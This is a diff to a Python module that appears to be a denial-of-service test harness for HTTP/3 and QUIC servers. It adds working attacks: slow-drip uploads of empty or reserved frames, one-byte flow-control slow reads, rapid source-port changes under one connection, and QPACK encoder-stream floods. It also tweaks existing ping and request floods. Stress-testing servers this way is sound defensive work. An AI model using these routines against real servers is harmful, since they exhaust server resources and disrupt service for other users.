@@ -14,6 +14,7 @@ import time
 
 from attacker import (
     CONTROL,
+    DECODER,
     ENCODER,
     FRAMES_BYTES_MAX,
     ID_BYTES,
@@ -177,7 +178,7 @@ def window_stall(plan):
 
     while time.monotonic() < until and not all(over(client) for client in clients):
         for client in clients:
-            if plan.get("pings"):
+            for _ in range(plan.get("pings", 0)):
                 client.packet(varint(0x01))
             client.pump(lambda client=client: over(client), 0.01)
     results = [client.result() for client in clients]
@@ -210,6 +211,44 @@ def slow_head(plan):
         client.pump(lambda: client.closed or any(client.quic.of(s).over for s in streams), plan.get("gap", 0.0))
     say({"event": "ready"})
     return settle(client, plan, lambda: all(client.quic.of(s).over for s in streams)) | {"sent": sent}
+
+
+def trickle(plan):
+    """Uploads that go on for ever with frames of no bytes: reserved ones, empty DATA, or a byte of a reserved frame's payload at a time."""
+    client, kind, sent = opened(plan), plan["kind"], 0
+    request = head(client.authority, plan.get("path", "/upload"), "POST")
+    start = request + (varint(0x21) + varint(1 << 20) if kind == "payload" else b"")
+    streams = [stream_id for _, stream_id in zip(range(plan.get("streams", 1)), ids(client))]
+    for stream_id in streams:
+        client.packet(stream(stream_id, start))
+    piece = {"empty-data": frame(0x00, b""), "reserved": frame(0x21, b""), "payload": b"x"}[kind]
+    for turn in Pace(plan, 1000, 10):
+        if client.closed or client.over() == len(streams):
+            break
+        client.packets(stream(stream_id, piece, len(start) + len(piece) * turn) for stream_id in streams)
+        sent += len(streams)
+        client.pump(lambda: client.closed or client.over() == len(streams), plan.get("gap", 0.02))
+    return settle(client, plan, lambda: client.over() == len(streams)) | {"sent": sent}
+
+
+def credit_drip(plan):
+    """Responses that are read a byte at a time: credit for one more after the other."""
+    client, sent = Attacker(plan), 0
+    client.quic._local_max_stream_data_bidi_local = 1
+    if not client.connect():
+        raise SystemExit("no handshake")
+    client.open_http3()
+    request = head(client.authority, plan.get("path", "/bytes/1000000"))
+    streams = [stream_id for _, stream_id in zip(range(plan.get("streams", 100)), ids(client))]
+    client.packets(stream(stream_id, request, fin=True) for stream_id in streams)
+    client.pump(lambda: client.closed, 0.2)
+    for turn in Pace(plan, 100, 10):
+        if client.closed:
+            break
+        client.packets(max_stream_data(stream_id, turn + 2) for stream_id in streams)
+        sent += len(streams)
+        client.pump(lambda: client.closed, plan.get("gap", 0.005))
+    return settle(client, plan, lambda: True) | {"sent": sent}
 
 
 # --- 77, 78: sections
@@ -358,6 +397,34 @@ def optimistic_ack(plan):
     return result | {"sent": sent, "bytes_per_second": (peak - first) / seconds}
 
 
+def moving(plan):
+    """One connection from ever new ports, with the same id: as if its address were translated anew for each datagram."""
+    client, sent = opened(plan), 0
+    own, spare = client.socket, []
+    for turn in Pace(plan, 200):
+        if client.closed:
+            break
+        other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        other.bind(("127.0.0.1", 0))
+        other.connect(client.server)
+        other.setblocking(False)
+        spare.append(other)
+        client.socket = other
+        client.packet(varint(0x01) * 20)
+        sent += 1
+        client.socket = own
+        client.pump(lambda: client.closed, 0.001)
+    time.sleep(0.1)
+    answers = 0
+    for other in spare:
+        try:
+            while True:
+                answers += len(other.recv(65536))
+        except OSError:
+            other.close()
+    return settle(client, plan) | {"sent": sent, "bytes_elsewhere": answers}
+
+
 # --- 84 to 86: streams and frames that bring nothing
 
 
@@ -466,6 +533,29 @@ def body_flood(plan):
     return settle(client, plan, lambda: client.quic.of(0).over) | {"sent": sent}
 
 
+def encoder_flood(plan):
+    """Instructions on the QPACK encoder stream, for a table that was never offered; `kind` says which, or plain bytes for the decoder."""
+    client, sent, at = opened(plan), 0, 1
+    kind, which = plan.get("kind", "insert"), ENCODER
+    value = b"v" * 50
+    one = {
+        "insert": prefixed(0x40, 5, 1) + b"n" + prefixed(0, 7, len(value)) + value,
+        "capacity": prefixed(0x20, 5, 0),
+        "cancel": prefixed(0x40, 6, 0),
+    }[kind]
+    if kind == "cancel":
+        which = DECODER
+    data = one * ((FRAMES_BYTES_MAX - 40) // len(one))
+    for turn in Pace(plan, 500):
+        if client.closed:
+            break
+        client.packet(stream(which, data, at))
+        at += len(data)
+        sent += len(data) // len(one)
+        client.pump(lambda: client.closed, 0.001)
+    return settle(client, plan) | {"sent": sent}
+
+
 def uni_streams(plan):
     """Unidirectional streams of unknown types, and the 16 that are allowed at once over and over."""
     client, sent, stream_id = opened(plan), 0, 14
@@ -492,9 +582,10 @@ def requests(plan):
     """Requests one after the other on one connection, all malformed where told."""
     client, sent = opened(plan), 0
     window = plan.get("streams", 16)
-    request = head(client.authority, plan.get("path", "/small"), more=bad_fields(plan))
+    path = "/" + "p" * plan["path_bytes"] if "path_bytes" in plan else plan.get("path", "/small")
+    request = head(client.authority, path, more=bad_fields(plan))
     for _, stream_id in zip(Pace(plan, 1000), ids(client)):
-        client.packet(stream(stream_id, request, fin=True))
+        client.send(stream_id, request)
         sent += 1
         oldest = stream_id - 4 * window
         if oldest >= 0:
@@ -633,6 +724,10 @@ ATTACKS = {
         "packet_flood": packet_flood,
         "body_flood": body_flood,
         "uni_streams": uni_streams,
+        "encoder_flood": encoder_flood,
+        "moving": moving,
+        "trickle": trickle,
+        "credit_drip": credit_drip,
         "requests": requests,
         "burst": burst,
         "unread_uploads": unread_uploads,
